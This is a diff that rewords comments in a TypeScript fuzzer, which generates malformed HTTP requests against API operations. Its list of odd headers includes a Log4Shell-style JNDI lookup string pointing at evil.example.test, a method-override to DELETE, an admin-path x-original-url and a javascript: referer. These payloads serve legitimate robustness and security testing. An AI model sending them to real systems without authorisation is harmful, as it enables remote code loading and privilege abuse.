@@ -5,19 +5,19 @@ import { type Making, makeValue, type Schema } from './from-schema.ts'
 import { oddText, oddValue, writeJson } from './odd-values.ts'
 import type { Operation } from './operations.ts'
 
-/** What is wrong with a request, if anything. */
+/** The defective part of a request, or 'nothing'. */
 type Fault = 'nothing' | 'body' | 'query' | 'path' | 'headers' | 'bytes'
 
 export type Made = {
   fault: Fault
-  /** The one field that was broken, in a body. */
+  /** The field of the body that was broken, if one was. */
   field: string | null
   target: string
   headers: [string, string][]
   body: Buffer | null
 }
 
-/** One request to the operation, from a well-formed one that a person would send (`known`) or from the schema. */
+/** Makes one request to the operation, from a well-formed one (`known`) or from the schema. */
 export function makeRequest(op: Operation, known: Request | null, making: Making): Made {
   const { random } = making
   const fault = faultFor(op, making)
@@ -107,7 +107,7 @@ function spoil(pairs: [string, string][], op: Operation, making: Making): void {
     ? random.pick(BAD_ESCAPES)
     : encodeURIComponent(oddText(random).slice(0, 2_000))
   const at = pairs.findIndex(([one]) => one === name)
-  // Twice the same name, or the one that is there.
+  // Replaces the parameter, or adds one with the same name.
   if (at >= 0 && random.chance(0.7)) pairs[at] = [name, value]
   else pairs.push([name, value])
 }
@@ -120,7 +120,7 @@ function buildHeaders(op: Operation, { known, making }: Needs): [string, string]
   return [...own, ...described.map(([name, value]): [string, string] => [name, fit(value)])]
 }
 
-// What a header can carry: others would be a fault of their own.
+// Keeps only characters that a header can contain; other characters are a separate fault.
 const fit = (value: string) => value.replace(/[^\x20-\x7e]/g, '_').trim() || 'k'
 
 const TYPES = [
@@ -167,7 +167,7 @@ const ODD_HEADERS: [string, string][] = [
   ['x-http-method-override', 'DELETE'],
   ['x-original-url', '/api/api/admin/users'],
   ['user-agent', 'u'.repeat(4_000)],
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is sent as it is
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text is sent unchanged
   ['user-agent', '${jndi:ldap://evil.example.test/a}'],
   ['referer', 'javascript:alert(1)'],
   ['origin', 'null'],
@@ -184,7 +184,7 @@ const ODD_HEADERS: [string, string][] = [
 function withOdd(headers: [string, string][], fault: Fault, { random }: Making): [string, string][] {
   if (fault !== 'headers') return headers
   const odd = Array.from({ length: 1 + random.below(3) }, () => random.pick(ODD_HEADERS))
-  // Before or after the right one: two of a kind are read differently by different readers.
+  // Before or after the valid header: readers differ in which of two equal headers they use.
   return random.chance(0.5) ? [...odd, ...headers] : [...headers, ...odd]
 }
 
